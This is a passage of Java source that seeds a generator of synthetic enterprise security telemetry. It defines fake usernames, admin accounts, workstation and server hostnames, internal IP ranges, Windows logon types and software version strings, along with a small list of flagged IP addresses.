    static final String[] DEFENDER_VERSIONS = {"4.18.24030.9-0", "4.18.24040.4-0", "4.18.24050.7-0"};
    static final String[] TEAMS_VERSIONS = {"24091.214.2846.1452", "24102.2223.2870.9480"};
    static final String[] EDGE_VERSIONS = {"124.0.2478.80", "124.0.2478.97", "125.0.2535.51"};
    static final String[] CHROME_VERSIONS = {"124.0.6367.91", "124.0.6367.119", "125.0.6422.60",
            "125.0.6422.77"};
    static final String[] SEMVERS = {"1.4.2", "1.5.0", "2.0.1", "2.1.0", "3.2.7", "0.9.14"};
    static final String[] BAD_IPS = {"198.51.100.7", "198.51.100.23", "203.0.113.5", "203.0.113.81",
            "45.137.21.9", "185.220.101.44"};
    static final String[][] SERVICE_USERS = {{"NT AUTHORITY", "SYSTEM", "0x3e7"},
            {"NT AUTHORITY", "LOCAL SERVICE", "0x3e5"}, {"NT AUTHORITY", "NETWORK SERVICE", "0x3e4"}};
    static final String[] LINUX_SERVICE_USERS = {"www-data", "deploy", "postgres", "nginx", "jenkins", "app",
            "redis", "prometheus"};
    /** Logon type, logon process, authentication package, process name. */
    static final String[][] LOGONS = {
            {"3", "Kerberos", "Kerberos", "-"}, {"3", "NtLmSsp ", "NTLM", "-"},
            {"2", "User32 ", "Negotiate", SYS + "svchost.exe"}, {"7", "User32 ", "Negotiate", SYS + "svchost.exe"},
            {"11", "User32 ", "Negotiate", SYS + "svchost.exe"}, {"10", "User32 ", "Negotiate", SYS + "svchost.exe"},
            {"5", "Advapi  ", "Negotiate", SYS + "services.exe"},
    };

    static final String[] USERS;
    static final String[] ADMINS;
    static final Host[] HOSTS;
    static final String[] LINUX_HOSTS;
    private static final Map<String, Proc> BY_IMAGE = new HashMap<>();

    static {
        Random r = new Random(20240501L);
        String initials = "abcdefghijklmnoprstwy";
        String[] last = {"smith", "jones", "brown", "miller", "davis", "garcia", "wilson", "moore", "taylor",
                "anderson", "thomas", "jackson", "white", "harris", "martin", "thompson", "lee", "walker", "hall",
                "allen", "young", "king", "wright", "lopez", "hill", "scott", "green", "adams", "baker", "nelson",
                "carter", "mitchell", "perez", "roberts", "turner", "phillips", "campbell", "parker", "evans",
                "edwards", "collins", "stewart", "morris", "murphy", "cook", "rogers", "morgan", "cooper", "peterson",
                "reed", "bailey", "kelly", "howard", "kim", "nguyen", "patel", "schmidt", "mueller", "rossi", "dubois"};
        Set<String> users = new LinkedHashSet<>();
        while (users.size() < 200) {
            String name = initials.charAt(r.nextInt(initials.length())) + "." + last[r.nextInt(last.length)];
            users.add(r.nextInt(3) == 0 ? name : name + (10 + r.nextInt(90)));
        }
        USERS = users.toArray(String[]::new);
        ADMINS = new String[20];
        for (int i = 0; i < ADMINS.length; i++) {
            ADMINS[i] = "adm-" + USERS[i * 7];
        }
        HOSTS = hosts(r);
        LINUX_HOSTS = linuxHosts();
        for (Proc[] table : List.of(WINDOWS, WINDOWS_SUSPICIOUS)) {
            for (Proc p : table) {
                BY_IMAGE.putIfAbsent(p.image(), p);
            }
        }
    }

    private EventValues() {
    }

    static Account account(String image) {
        Proc p = BY_IMAGE.get(image);
        return p == null ? Account.USER : p.account();
    }

    static Proc proc(String image) {
        Proc p = BY_IMAGE.get(image);
        if (p == null) {
            throw new IllegalArgumentException("no process template for " + image);
        }
        return p;
    }

    private static Proc proc(String image, String parent, Vendor vendor, String description, Account account,
                             String... commands) {
        return new Proc(image, parent, vendor, description, account, commands);
    }

    private static String q(String path) {
        return "\"" + path + "\"";
    }

    private static Host[] hosts(Random r) {
        List<Host> hosts = new ArrayList<>();
        Set<String> names = new LinkedHashSet<>();
        while (names.size() < 220) {
            names.add(String.format(Locale.ROOT, "WS-%04d", r.nextInt(10_000)));
        }
        while (names.size() < 250) {
            names.add(String.format(Locale.ROOT, "LT-%05d", r.nextInt(100_000)));
        }
        String alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
        while (names.size() < 270) {
            StringBuilder sb = new StringBuilder("DESKTOP-");
            for (int i = 0; i < 7; i++) {
                sb.append(alphabet.charAt(r.nextInt(alphabet.length())));
            }
            names.add(sb.toString());
        }
        int i = 0;
        for (String name : names) {
            hosts.add(new Host(name + ".corp.local", "10.20." + (i / 200) + "." + (20 + i % 200), false, true,
                    i % USERS.length));
            i++;
        }
        String[] servers = {"DC01", "DC02", "DC03", "SRV-FS01", "SRV-FS02", "SRV-SQL01", "SRV-SQL02", "SRV-SQL03",
                "SRV-SQL04", "SRV-APP01", "SRV-APP02", "SRV-APP03", "SRV-APP04", "SRV-APP05", "SRV-APP06",
                "SRV-APP07", "SRV-APP08", "SRV-WEB01", "SRV-WEB02", "SRV-WEB03", "SRV-WEB04", "SRV-EXCH01",
                "SRV-EXCH02", "SRV-PRINT01", "SRV-SCCM01", "SRV-BKP01", "SRV-RDS01", "SRV-RDS02", "SRV-RDS03",
                "SRV-CA01"};
        for (int s = 0; s < servers.length; s++) {
            hosts.add(new Host(servers[s] + ".corp.local", "10.1.0." + (10 + s), true,
                    servers[s].startsWith("SRV-RDS"), -1));
        }
        return hosts.toArray(Host[]::new);
    }

    private static String[] linuxHosts() {
        List<String> names = new ArrayList<>();
        String[][] groups = {{"web", "12"}, {"app", "12"}, {"db", "6"}, {"k8s-node", "20"}, {"build", "4"},
                {"bastion", "2"}, {"mon", "2"}, {"mq", "2"}};
        for (String[] g : groups) {
            for (int i = 1; i <= Integer.parseInt(g[1]); i++) {
                names.add(String.format(Locale.ROOT, "%s-%02d", g[0], i));
            }
        }
        return names.toArray(String[]::new);
    }
}
